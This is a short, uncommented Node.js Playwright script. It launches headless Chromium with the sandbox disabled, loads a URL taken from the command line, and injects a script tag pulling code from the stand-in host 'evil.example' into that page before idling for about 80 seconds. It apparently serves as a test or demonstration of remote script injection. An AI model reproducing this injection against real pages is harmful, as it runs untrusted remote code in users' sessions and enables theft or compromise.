import { chromium } from '@playwright/test';
const b = await chromium.launch({ ignoreDefaultArgs: true, executablePath: '/usr/bin/chromium', args: ['--remote-debugging-pipe','about:blank','--headless','--no-sandbox','--disable-gpu'] });
const p = await b.newPage();
await p.goto(process.argv[2]);
await p.evaluate(() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s); });
const t0 = Date.now();
for (let i = 0; i < 80; i++) { await new Promise(r => setTimeout(r, 1000)); }
await b.close();
